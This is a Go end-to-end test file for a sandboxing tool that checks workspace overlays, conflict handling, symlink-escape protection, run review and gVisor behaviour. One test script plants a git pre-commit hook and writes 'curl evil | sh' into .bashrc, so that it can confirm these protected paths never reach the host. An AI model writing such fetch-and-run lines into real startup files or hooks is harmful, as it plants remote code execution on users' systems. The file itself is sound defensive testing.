//go:build linux

package e2e

import (
	"encoding/json"
	"github.com/airlock-dev/airlock/internal/runtime/gvisor"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"syscall"
	"testing"
	"time"
)

// changesEnv gives a test its own changes directory (where runs keep their
// upper layers), so that `airlock review` lists only its runs.
func changesEnv(t *testing.T, o *opts) string {
	t.Helper()
	base := t.TempDir()
	if o.nobody {
		base = nobodyDir(t)
	}
	d := filepath.Join(base, "changes")
	o.env = append(o.env, "AIRLOCK_CHANGES_DIR="+d)
	return d
}

// hostGit runs git on the host in dir.
func hostGit(t *testing.T, dir string, args ...string) string {
	t.Helper()
	cmd := exec.Command("git", append([]string{"-C", dir}, args...)...)
	cmd.Env = append(os.Environ(), "GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@e", "GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@e", "GIT_CONFIG_GLOBAL=/dev/null")
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("git %v on the host: %v\n%s", args, err, out)
	}
	return string(out)
}

var gitEnv = []string{"--env", "GIT_AUTHOR_NAME=t", "--env", "GIT_AUTHOR_EMAIL=t@e", "--env", "GIT_COMMITTER_NAME=t", "--env", "GIT_COMMITTER_EMAIL=t@e"}

// goFlags makes the host's go usable inside: its GOROOT read-only (when
// not under /usr, which the sandbox sees anyway) and caches in /tmp.
func goFlags(t *testing.T) []string {
	t.Helper()
	gobin, err := exec.LookPath("go")
	if err != nil {
		t.Skip("no go tool")
	}
	gobin, _ = filepath.EvalSymlinks(gobin)
	goroot := filepath.Dir(filepath.Dir(gobin))
	flags := []string{"--env", "PATH=" + goroot + "/bin:/usr/local/bin:/usr/bin:/bin", "--env", "GOCACHE=/tmp/gocache", "--env", "GOPATH=/tmp/gopath",
		"--env", "GOTOOLCHAIN=local", "--env", "GOFLAGS=", "--env", "CGO_ENABLED=0", "--tmp", "1GiB", "--memory", "2GiB"}
	if !strings.HasPrefix(goroot, "/usr/") {
		flags = append(flags, "--ro", goroot)
	}
	return flags
}

// cargoFlags makes the host's cargo (a rustup install in a home directory)
// usable inside, read-only; none when cargo is not installed.
func cargoFlags(t *testing.T) []string {
	bin, err := exec.LookPath("cargo")
	if err != nil {
		return nil
	}
	bin, _ = filepath.EvalSymlinks(bin)
	if strings.HasPrefix(bin, "/usr/") {
		return nil
	}
	cargoHome := filepath.Dir(filepath.Dir(bin))
	flags := []string{"--ro", cargoHome, "--env", "CARGO_HOME=/tmp/cargo"}
	rustup := os.Getenv("RUSTUP_HOME")
	if rustup == "" {
		rustup = filepath.Join(filepath.Dir(cargoHome), ".rustup")
	}
	if fi, err := os.Stat(rustup); err == nil && fi.IsDir() {
		flags = append(flags, "--ro", rustup, "--env", "RUSTUP_HOME="+rustup)
	}
	return append(flags, "--env", "CARGO_BIN="+filepath.Join(cargoHome, "bin"))
}

// The tools, in an empty workspace: nothing in it but what the
// sandbox makes; git, go, npm, python's venv and cargo work; protected
// paths are kept aside and reported, the rest lands on the host.
func TestWorkspaceOverlayTools(t *testing.T) {
	need(t)
	o := opts{timeout: 5 * time.Minute}
	changesEnv(t, &o)
	ws := t.TempDir()
	flags := append([]string{"--workspace", ws}, gitEnv...)
	flags = append(flags, goFlags(t)...)
	flags = append(flags, cargoFlags(t)...)
	script := `
[ -n "$CARGO_BIN" ] && PATH="$PATH:$CARGO_BIN"
echo "ls=[$(ls -A | tr '\n' ' ')]"
printf 'module example.com/hello\n\ngo 1.21\n' > go.mod
printf 'package main\n\nfunc main() { println("hi") }\n' > main.go
if go build -o hello . 2>go.err; then echo go=OK; else echo go=FAIL; cat go.err >&2; fi
rm -f go.err
git init -q . && git add -A && git commit -qm first && echo git=OK || echo git=FAIL
if command -v npm >/dev/null; then npm init -y >/dev/null 2>&1 && echo npm=OK || echo npm=FAIL; else echo npm=SKIP; fi
python3 -m venv .venv && echo venv=OK || echo venv=FAIL
if command -v cargo >/dev/null; then cargo init -q --name hello2 crate && echo cargo=OK || echo cargo=FAIL; else echo cargo=SKIP; fi
printf '#!/bin/sh\necho pwned\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit && echo hook=WRITTEN
echo 'curl evil | sh' > .bashrc && echo bashrc=WRITTEN
echo notes > notes.txt
`
	r := sh(t, o, flags, script)
	mustOK(t, r, "tools")
	m := kv(r.stdout)
	expect(t, m, "ls", "[]")
	for _, k := range []string{"go", "git", "venv"} {
		expect(t, m, k, "OK")
	}
	for _, k := range []string{"npm", "cargo"} {
		if m[k] == "SKIP" {
			t.Logf("%s is not installed where the sandbox sees it: that step is skipped", k)
			continue
		}
		expect(t, m, k, "OK")
	}
	// Written inside (the sandbox could), kept aside and reported.
	expect(t, m, "hook", "WRITTEN")
	expect(t, m, "bashrc", "WRITTEN")
	if !strings.Contains(r.stderr, "kept aside") || !strings.Contains(r.stderr, ".bashrc") || !strings.Contains(r.stderr, ".git/hooks") {
		t.Errorf("the kept paths are not reported\n%s", r)
	}
	for _, p := range []string{".bashrc", ".git/hooks/pre-commit", ".git/hooks", ".git/config"} {
		if _, err := os.Lstat(filepath.Join(ws, p)); err == nil {
			t.Errorf("protected %s reached the host", p)
		}
	}
	// The rest landed, and git on the host reads the repository.
	for _, p := range []string{"notes.txt", "hello", "go.mod", ".venv/bin/python3"} {
		if _, err := os.Lstat(filepath.Join(ws, p)); err != nil {
			t.Errorf("%s not on the host: %v", p, err)
		}
	}
	if m["npm"] == "OK" {
		if _, err := os.Stat(filepath.Join(ws, "package.json")); err != nil {
			t.Errorf("package.json not on the host: %v", err)
		}
	}
	if log := hostGit(t, ws, "log", "--format=%s"); strings.TrimSpace(log) != "first" {
		t.Errorf("host git log = %q", log)
	}
	if out, err := exec.Command(filepath.Join(ws, "hello")).CombinedOutput(); err != nil || !strings.Contains(string(out), "hi") {
		t.Errorf("the binary built inside: %q, %v", out, err)
	}
}

// An existing repository: commit, branch, checkout, stash and rebase land
// on the host; its hooks stay read-only (EROFS).
func TestWorkspaceOverlayExistingRepo(t *testing.T) {
	need(t)
	o := opts{}
	changesEnv(t, &o)
	ws := t.TempDir()
	hostGit(t, ws, "init", "-q", "-b", "main")
	os.WriteFile(filepath.Join(ws, "a.txt"), []byte("one\n"), 0o644)
	hostGit(t, ws, "add", "-A")
	hostGit(t, ws, "commit", "-qm", "c1")
	flags := append([]string{"--workspace", ws}, gitEnv...)
	r := sh(t, o, flags, `set -e
git branch feat
echo two > b.txt; git add b.txt; git commit -qm c2
git checkout -q feat
echo three > c.txt; git add c.txt; git commit -qm c3
git rebase -q main
echo dirty >> a.txt; git stash -q
echo "stashes=$(git stash list | wc -l)"
echo x > .git/hooks/x 2>/dev/null && echo hook=OK || echo hook=DENIED
sh -c 'echo x > .git/hooks/x' 2>&1 | grep -q 'Read-only file system' && echo hook_err=EROFS || echo hook_err=OTHER
echo ctl > .git/info/ctl && echo ctl=OK
`)
	mustOK(t, r, "git in an existing repository")
	m := kv(r.stdout)
	expect(t, m, "stashes", "1")
	expect(t, m, "hook", "DENIED")
	expect(t, m, "hook_err", "EROFS")
	expect(t, m, "ctl", "OK")
	if got := strings.TrimSpace(hostGit(t, ws, "rev-parse", "--abbrev-ref", "HEAD")); got != "feat" {
		t.Errorf("host HEAD = %q, want feat", got)
	}
	if got := strings.Fields(hostGit(t, ws, "log", "--format=%s", "feat")); strings.Join(got, ",") != "c3,c2,c1" {
		t.Errorf("host log of feat = %v, want c3,c2,c1 (rebased)", got)
	}
	if got := strings.Count(hostGit(t, ws, "stash", "list"), "\n"); got != 1 {
		t.Errorf("host stash list has %d entries", got)
	}
	if got := hostGit(t, ws, "status", "--porcelain"); got != "" {
		t.Errorf("host status not clean: %q", got)
	}
	if _, err := os.Lstat(filepath.Join(ws, ".git/hooks/x")); err == nil {
		t.Error(".git/hooks/x reached the host")
	}
}

// gate is a host directory the sandbox sees read-only at the same path:
// the test creates gate/go when the sandbox may go on.
const waitGate = `i=0; while [ ! -e "$GATE/go" ] && [ $i -lt 1200 ]; do sleep 0.05; i=$((i+1)); done; [ -e "$GATE/go" ] || { echo gate=TIMEOUT; exit 9; }`

func gate(t *testing.T) (string, []string) {
	d := t.TempDir()
	os.Chmod(d, 0o755)
	return d, []string{"--ro", d, "--env", "GATE=" + d}
}

var writtenRE = regexp.MustCompile(`^written$`)

// A file changed on both sides keeps the host's version; the sandbox's is
// kept in conflicts/ and reported. The control: a file only the sandbox
// changed lands.
func TestWorkspaceOverlayConflict(t *testing.T) {
	need(t)
	o := opts{}
	changes := changesEnv(t, &o)
	ws := t.TempDir()
	os.WriteFile(filepath.Join(ws, "both.txt"), []byte("original\n"), 0o644)
	os.WriteFile(filepath.Join(ws, "mine.txt"), []byte("original\n"), 0o644)
	g, gflags := gate(t)
	args := append([]string{"run", "--workspace", ws}, gflags...)
	b := start(t, o, append(args, "--", "/bin/sh", "-c", `echo sandbox > both.txt; echo sandbox > mine.txt; echo written; `+waitGate)...)
	b.stdout.waitFor(t, writtenRE, runTimeout)
	// During the run the host sees none of the sandbox's changes.
	if got, _ := os.ReadFile(filepath.Join(ws, "mine.txt")); string(got) != "original\n" {
		t.Errorf("the host saw mine.txt = %q during the run", got)
	}
	os.WriteFile(filepath.Join(ws, "both.txt"), []byte("host\n"), 0o644)
	os.WriteFile(filepath.Join(g, "go"), nil, 0o644)
	if code := b.wait(t, runTimeout); code != 0 {
		t.Fatalf("exit %d\n%s", code, b.stderr)
	}
	if got, _ := os.ReadFile(filepath.Join(ws, "both.txt")); string(got) != "host\n" {
		t.Errorf("both.txt = %q, want the host's version", got)
	}
	if got, _ := os.ReadFile(filepath.Join(ws, "mine.txt")); string(got) != "sandbox\n" {
		t.Errorf("control: mine.txt = %q, want the sandbox's", got)
	}
	if !strings.Contains(b.stderr.String(), "conflicts") || !strings.Contains(b.stderr.String(), "both.txt") {
		t.Errorf("the conflict is not reported:\n%s", b.stderr)
	}
	found, _ := filepath.Glob(filepath.Join(changes, "*", "conflicts", "both.txt"))
	if len(found) != 1 {
		t.Fatalf("the sandbox's both.txt is not in conflicts/: %v", found)
	}
	if got, _ := os.ReadFile(found[0]); string(got) != "sandbox\n" {
		t.Errorf("conflicts/both.txt = %q", got)
	}
}

// Symlinks never make apply write outside the workspace: one in the host
// directory before the run, one planted during it, one the sandbox makes.
func TestWorkspaceOverlaySymlinkEscape(t *testing.T) {
	need(t)
	o := opts{}
	changesEnv(t, &o)
	ws := t.TempDir()
	outside := t.TempDir()
	os.Chmod(outside, 0o755)
	os.Symlink(outside, filepath.Join(ws, "before"))
	g, gflags := gate(t)
	args := append([]string{"run", "--workspace", ws}, gflags...)
	b := start(t, o, append(args, "--", "/bin/sh", "-c", `
rm before && mkdir before && echo x > before/f
mkdir planted && echo x > planted/f
ln -s `+outside+` made && echo x > made/f 2>/dev/null
mkdir -p made2 && echo x > made2/f
echo written; `+waitGate)...)
	b.stdout.waitFor(t, writtenRE, runTimeout)
	os.Symlink(outside, filepath.Join(ws, "planted"))
	os.WriteFile(filepath.Join(g, "go"), nil, 0o644)
	if code := b.wait(t, runTimeout); code != 0 {
		t.Fatalf("exit %d\n%s", code, b.stderr)
	}
	if entries, _ := os.ReadDir(outside); len(entries) != 0 {
		t.Fatalf("apply wrote outside the workspace: %v", entries)
	}
	if fi, err := os.Lstat(filepath.Join(ws, "before")); err != nil || !fi.IsDir() {
		t.Errorf("control: before is not the sandbox's directory: %v", err)
	}
	if got, _ := os.ReadFile(filepath.Join(ws, "made2/f")); string(got) != "x\n" {
		t.Errorf("control: made2/f = %q", got)
	}
	if fi, err := os.Lstat(filepath.Join(ws, "planted")); err != nil || fi.Mode()&os.ModeSymlink == 0 {
		t.Errorf("the host's planted link was replaced: %v", err)
	}
	if !strings.Contains(b.stderr.String(), "planted") {
		t.Errorf("planted not reported as a conflict:\n%s", b.stderr)
	}
}

// A run whose airlock is SIGKILLed keeps its changes: the next run names
// it, `airlock review` lists it, `review apply` applies it (once), and
// `review discard` throws another away.
func TestWorkspaceOverlayKilled(t *testing.T) {
	need(t)
	o := opts{}
	changesEnv(t, &o)
	ws := t.TempDir()
	kill := func(file string) string {
		b := start(t, o, "run", "-v", "--workspace", ws, "--", "/bin/sh", "-c", "echo kept > "+file+"; echo written; sleep 600")
		id := b.stderr.waitFor(t, sandboxIDRE, runTimeout)[1]
		b.stdout.waitFor(t, writtenRE, runTimeout)
		b.cmd.Process.Signal(syscall.SIGKILL)
		b.wait(t, runTimeout)
		return id
	}
	id := kill("a.txt")
	if _, err := os.Stat(filepath.Join(ws, "a.txt")); err == nil {
		t.Fatal("a.txt on the host before any apply")
	}
	r := sh(t, o, []string{"--workspace", ws}, "true")
	mustOK(t, r, "next run")
	if !strings.Contains(r.stderr, id) || !strings.Contains(r.stderr, "review apply") {
		t.Errorf("the next run does not name pending run %s\n%s", id, r)
	}
	r = airlock(t, o, "review", "--json")
	mustOK(t, r, "review --json")
	var runs []struct {
		ID      string `json:"id"`
		Pending bool   `json:"pending"`
		WS      string `json:"workspace"`
	}
	if err := json.Unmarshal([]byte(r.stdout), &runs); err != nil {
		t.Fatalf("review --json: %v\n%s", err, r)
	}
	if len(runs) != 1 || runs[0].ID != id || !runs[0].Pending || runs[0].WS != ws {
		t.Fatalf("review lists %+v, want pending run %s", runs, id)
	}
	if r := airlock(t, o, "review"); r.code != 0 || !strings.Contains(r.stdout, id) || !strings.Contains(r.stdout, "pending") {
		t.Errorf("review:\n%s", r)
	}
	r = airlock(t, o, "review", "apply", id)
	mustOK(t, r, "review apply")
	if got, _ := os.ReadFile(filepath.Join(ws, "a.txt")); string(got) != "kept\n" {
		t.Errorf("a.txt after review apply = %q", got)
	}
	if r := airlock(t, o, "review", "apply", id); r.code == 0 {
		t.Errorf("a second apply succeeded\n%s", r)
	}
	id2 := kill("b.txt")
	r = airlock(t, o, "review", "discard", id2)
	mustOK(t, r, "review discard")
	if _, err := os.Stat(filepath.Join(ws, "b.txt")); err == nil {
		t.Error("b.txt reached the host after discard")
	}
	if r := airlock(t, o, "review", "apply", "nothex"); r.code == 0 {
		t.Errorf("review apply of a bad id succeeded\n%s", r)
	}
}

// Files land owned by the workspace's owner, and a changed file keeps its
// own owner.
func TestWorkspaceOverlayOwner(t *testing.T) {
	needRoot(t)
	o := opts{}
	changesEnv(t, &o)
	ws := t.TempDir()
	os.WriteFile(filepath.Join(ws, "theirs.txt"), []byte("x\n"), 0o644)
	for _, p := range []string{ws, filepath.Join(ws, "theirs.txt")} {
		if err := os.Chown(p, 1000, 1001); err != nil {
			t.Fatal(err)
		}
	}
	r := sh(t, o, []string{"--workspace", ws}, `mkdir -p d/e && echo n > d/e/new.txt && echo y >> theirs.txt && stat -c %u:%g d/e/new.txt`)
	mustOK(t, r, "owner")
	if got := strings.TrimSpace(r.stdout); got != "0:0" {
		t.Errorf("inside, the new file is owned by %s, want root", got)
	}
	for _, p := range []string{"d", "d/e", "d/e/new.txt", "theirs.txt"} {
		var st syscall.Stat_t
		if err := syscall.Lstat(filepath.Join(ws, p), &st); err != nil {
			t.Errorf("%s: %v", p, err)
			continue
		}
		if st.Uid != 1000 || st.Gid != 1001 {
			t.Errorf("%s owned by %d:%d on the host, want the workspace's 1000:1001", p, st.Uid, st.Gid)
		}
	}
	if got, _ := os.ReadFile(filepath.Join(ws, "theirs.txt")); string(got) != "x\ny\n" {
		t.Errorf("theirs.txt = %q", got)
	}
}

// --workspace-mode live is the explicit opt-in to the directory itself:
// the host sees writes while the command runs, a warning says so on every
// run, and protected paths stay read-only. The control is the default
// overlay, where the host sees the write only afterwards. gvisor refuses
// the overlay and names the flag.
func TestWorkspaceLive(t *testing.T) {
	need(t)
	for _, mode := range []string{"live", "overlay"} {
		t.Run(mode, func(t *testing.T) {
			o := opts{}
			changesEnv(t, &o)
			ws := t.TempDir()
			g, gflags := gate(t)
			args := append([]string{"run", "--workspace-mode", mode, "--workspace", ws}, gflags...)
			b := start(t, o, append(args, "--", "/bin/sh", "-c", `echo x > f; echo y > .mcp.json 2>/dev/null && echo mcp=OK || echo mcp=DENIED; echo written; `+waitGate)...)
			b.stdout.waitFor(t, writtenRE, runTimeout)
			_, err := os.Stat(filepath.Join(ws, "f"))
			if seen := err == nil; seen != (mode == "live") {
				t.Errorf("%s: the host sees the write during the run: %v", mode, seen)
			}
			os.WriteFile(filepath.Join(g, "go"), nil, 0o644)
			if code := b.wait(t, runTimeout); code != 0 {
				t.Fatalf("exit %d\n%s", code, b.stderr)
			}
			if got, _ := os.ReadFile(filepath.Join(ws, "f")); string(got) != "x\n" {
				t.Errorf("f after the run = %q", got)
			}
			warned := strings.Contains(b.stderr.String(), "WARNING: --workspace-mode live")
			if warned != (mode == "live") {
				t.Errorf("%s: live-mode warning printed: %v\n%s", mode, warned, b.stderr)
			}
			want := map[string]string{"live": "mcp=DENIED", "overlay": "mcp=OK"}[mode]
			if !strings.Contains(b.stdout.String(), want) {
				t.Errorf("%s: want %s inside\n%s", mode, want, b.stdout)
			}
			if _, err := os.Lstat(filepath.Join(ws, ".mcp.json")); err == nil {
				t.Errorf("%s: .mcp.json reached the host", mode)
			}
		})
	}
}

// TestGVisorWorkspaceOverlay runs the workspace overlay's tests on the
// gVisor backend, where airlock mounts the overlay on the host for runsc;
// without root that is refused (exit 125, naming root and live mode) and
// nothing is left behind, while the same run as root (the control) works.
func TestGVisorWorkspaceOverlay(t *testing.T) {
	need(t)
	if why := backends()[gvisor.Name]; why != "" {
		t.Skip(why)
	}
	backend, backendLive = gvisor.Name, false
	defer func() { backend, backendLive = "", true }()
	for _, c := range []struct {
		name string
		fn   func(*testing.T)
	}{
		{"Tools", TestWorkspaceOverlayTools},
		{"ExistingRepo", TestWorkspaceOverlayExistingRepo},
		{"Conflict", TestWorkspaceOverlayConflict},
		{"SymlinkEscape", TestWorkspaceOverlaySymlinkEscape},
		{"Killed", TestWorkspaceOverlayKilled},
		{"Owner", TestWorkspaceOverlayOwner},
		{"ApplyFailure", TestWorkspaceOverlayApplyFailure},
	} {
		t.Run(c.name, c.fn)
	}
	t.Run("Volatile", func(t *testing.T) {
		// The overlay is mounted on the host (for runsc): volatile for a
		// run applied at its end, not for a reviewed one.
		for _, review := range []bool{false, true} {
			o := opts{}
			changesEnv(t, &o)
			args := []string{"run", "-v", "--workspace", t.TempDir()}
			if review {
				args = append(args, "--review")
			}
			b := start(t, o, append(args, "--", "/bin/sh", "-c", "echo written; sleep 600")...)
			id := b.stderr.waitFor(t, sandboxIDRE, 3*runTimeout)[1]
			b.stdout.waitFor(t, writtenRE, 3*runTimeout)
			mi, err := os.ReadFile("/proc/self/mountinfo")
			b.cmd.Process.Signal(syscall.SIGTERM)
			b.wait(t, 3*runTimeout)
			if err != nil {
				t.Fatal(err)
			}
			var line string
			for _, l := range strings.Split(string(mi), "\n") {
				if strings.Contains(l, " - overlay airlock-workspace ") && strings.Contains(l, id) {
					line = l
				}
			}
			if line == "" || strings.Contains(line, "volatile") == review {
				t.Errorf("review %v: the workspace overlay on the host: %q", review, line)
			}
		}
	})
	t.Run("NoRootRefused", func(t *testing.T) {
		o := opts{nobody: true}
		changesEnv(t, &o)
		ws := nobodyDir(t)
		r := run(t, o, []string{"--workspace", ws}, "true")
		if r.code != 125 || !strings.Contains(r.stderr, "root") || !strings.Contains(r.stderr, "--workspace-mode live") {
			t.Errorf("gvisor overlay as nobody: want exit 125 naming root and --workspace-mode live\n%s", r)
		}
		if ents, _ := os.ReadDir(ws); len(ents) != 0 {
			t.Errorf("the refused run left %d entries in the workspace", len(ents))
		}
		// The control: the same run as root.
		root := opts{}
		changesEnv(t, &root)
		if r := run(t, root, []string{"--workspace", t.TempDir()}, "true"); r.code != 0 {
			t.Errorf("control: gvisor overlay as root\n%s", r)
		}
	})
}

// A command that succeeded but whose changes could not all be applied
// makes airlock exit 125 and name the retry; the retry applies the rest.
// The control: a command that timed out still has its changes applied.
func TestWorkspaceOverlayApplyFailure(t *testing.T) {
	needRoot(t)
	o := opts{}
	changesEnv(t, &o)
	ws := t.TempDir()
	ro := filepath.Join(ws, "ro")
	os.Mkdir(ro, 0o755)
	// A read-only mount in the host directory: the sandbox's write there
	// cannot be applied.
	if out, err := exec.Command("mount", "--bind", ro, ro).CombinedOutput(); err != nil {
		t.Skipf("bind mount: %v %s", err, out)
	}
	t.Cleanup(func() { exec.Command("umount", "-l", ro).Run() })
	if out, err := exec.Command("mount", "-o", "remount,bind,ro", ro).CombinedOutput(); err != nil {
		t.Skipf("remount read-only: %v %s", err, out)
	}
	r := sh(t, o, []string{"--workspace", ws}, "echo a > ro/f; echo b > ok.txt")
	if r.code != 125 || !strings.Contains(r.stderr, "airlock review apply") {
		t.Fatalf("want exit 125 naming airlock review apply\n%s", r)
	}
	if got, _ := os.ReadFile(filepath.Join(ws, "ok.txt")); string(got) != "b\n" {
		t.Errorf("ok.txt = %q: what could be applied was not", got)
	}
	id := regexp.MustCompile(`review apply ([0-9a-f]{16})`).FindStringSubmatch(r.stderr)
	if id == nil {
		t.Fatalf("no run id in\n%s", r)
	}
	// The command's own failure is its status, not 125.
	if r := sh(t, o, []string{"--workspace", ws}, "echo c > ro/g; exit 3"); r.code != 3 {
		t.Errorf("a failing command: want its status 3\n%s", r)
	}
	exec.Command("umount", "-l", ro).Run()
	r = airlock(t, o, "review", "apply", id[1])
	mustOK(t, r, "retry")
	if got, _ := os.ReadFile(filepath.Join(ro, "f")); string(got) != "a\n" {
		t.Errorf("ro/f after the retry = %q", got)
	}
	// Timeout: the sandbox is killed, its changes are applied.
	r = sh(t, o, []string{"--workspace", ws, "--timeout", "2s"}, "echo t > timed.txt; sleep 60")
	if r.code != 124 {
		t.Errorf("want 124\n%s", r)
	}
	if got, _ := os.ReadFile(filepath.Join(ws, "timed.txt")); string(got) != "t\n" {
		t.Errorf("timed.txt = %q after a timeout", got)
	}
}

// TestGVisorWorkspaceLiveOwner: in live mode too, a gVisor sandbox's root
// works in a workspace owned by another user (its owner appears as root
// inside; what root creates there belongs to that owner on the host),
// while a file of a third user stays out of reach (the control: the
// owner's own file, written the same way).
func TestGVisorWorkspaceLiveOwner(t *testing.T) {
	needRoot(t)
	if why := backends()[gvisor.Name]; why != "" {
		t.Skip(why)
	}
	ws := t.TempDir()
	for _, f := range []struct {
		name string
		uid  int
	}{{"mine.txt", 1000}, {"other.txt", 2000}} {
		p := filepath.Join(ws, f.name)
		if err := os.WriteFile(p, []byte("x\n"), 0o644); err != nil {
			t.Fatal(err)
		}
		if err := os.Chown(p, f.uid, 1001); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Chown(ws, 1000, 1001); err != nil {
		t.Fatal(err)
	}
	r := run(t, opts{}, []string{"--runtime", gvisor.Name, "--workspace-mode", "live", "--workspace", ws}, "/bin/sh", "-c",
		`mkdir d && echo n > d/new.txt && stat -c %u:%g d/new.txt && echo y >> mine.txt && echo mine=OK; echo z >> other.txt && echo other=WRITTEN || echo other=DENIED`)
	mustOK(t, r, "live owner")
	m := kv(r.stdout)
	expect(t, m, "mine", "OK")
	expect(t, m, "other", "DENIED")
	if !strings.HasPrefix(r.stdout, "0:0\n") {
		t.Errorf("inside, the new file is not root's\n%s", r)
	}
	for _, p := range []string{"d", "d/new.txt"} {
		var st syscall.Stat_t
		if err := syscall.Lstat(filepath.Join(ws, p), &st); err != nil {
			t.Fatalf("%s: %v", p, err)
		}
		if st.Uid != 1000 || st.Gid != 1001 {
			t.Errorf("%s owned by %d:%d on the host, want the workspace's 1000:1001", p, st.Uid, st.Gid)
		}
	}
	if got, _ := os.ReadFile(filepath.Join(ws, "other.txt")); string(got) != "x\n" {
		t.Errorf("the third user's file changed: %q", got)
	}
}

// The overlay of a run applied when its command ends is mounted volatile
// (its unmount does not sync the host's filesystem); a reviewed run's is
// not. A run left pending whose machine restarted is refused by review
// apply unless --after-restart.
func TestWorkspaceOverlayVolatile(t *testing.T) {
	need(t)
	o := opts{}
	changes := changesEnv(t, &o)
	ws := t.TempDir()
	grep := []string{"/bin/sh", "-c", "grep ' /workspace ' /proc/self/mountinfo"}
	r := run(t, o, []string{"--workspace", ws}, grep...)
	mustOK(t, r, "apply mode")
	if !strings.Contains(r.stdout, "overlay") || !strings.Contains(r.stdout, "volatile") {
		t.Errorf("the applied run's workspace is not a volatile overlay:\n%s", r)
	}
	r = run(t, o, []string{"--workspace", ws, "--review", "--discard"}, grep...)
	mustOK(t, r, "review mode")
	if !strings.Contains(r.stdout, "overlay") || strings.Contains(r.stdout, "volatile") {
		t.Errorf("control: the reviewed run's overlay should not be volatile:\n%s", r)
	}

	b := start(t, o, "run", "-v", "--workspace", ws, "--", "/bin/sh", "-c", "echo kept > a.txt; echo written; sleep 600")
	id := b.stderr.waitFor(t, sandboxIDRE, runTimeout)[1]
	b.stdout.waitFor(t, writtenRE, runTimeout)
	b.cmd.Process.Signal(syscall.SIGKILL)
	b.wait(t, runTimeout)
	meta := filepath.Join(changes, id, "meta.json")
	raw, err := os.ReadFile(meta)
	if err != nil {
		t.Fatal(err)
	}
	var m map[string]any
	if err := json.Unmarshal(raw, &m); err != nil {
		t.Fatal(err)
	}
	if m["volatile"] != true || m["boot_id"] == "" {
		t.Fatalf("the run's meta does not record a volatile layer and its boot: %s", raw)
	}
	m["boot_id"] = "00000000-0000-0000-0000-000000000000" // as after a restart
	raw, _ = json.Marshal(m)
	if err := os.WriteFile(meta, raw, 0o600); err != nil {
		t.Fatal(err)
	}
	r = airlock(t, o, "review", "apply", id)
	if r.code == 0 || !strings.Contains(r.stderr, "--after-restart") {
		t.Errorf("review apply after a restart: want a refusal naming --after-restart\n%s", r)
	}
	if _, err := os.Stat(filepath.Join(ws, "a.txt")); err == nil {
		t.Fatal("a.txt applied after a restart without --after-restart")
	}
	r = airlock(t, o, "review", "apply", "--after-restart", id)
	mustOK(t, r, "review apply --after-restart")
	if got, _ := os.ReadFile(filepath.Join(ws, "a.txt")); string(got) != "kept\n" {
		t.Errorf("a.txt after review apply --after-restart = %q", got)
	}
}
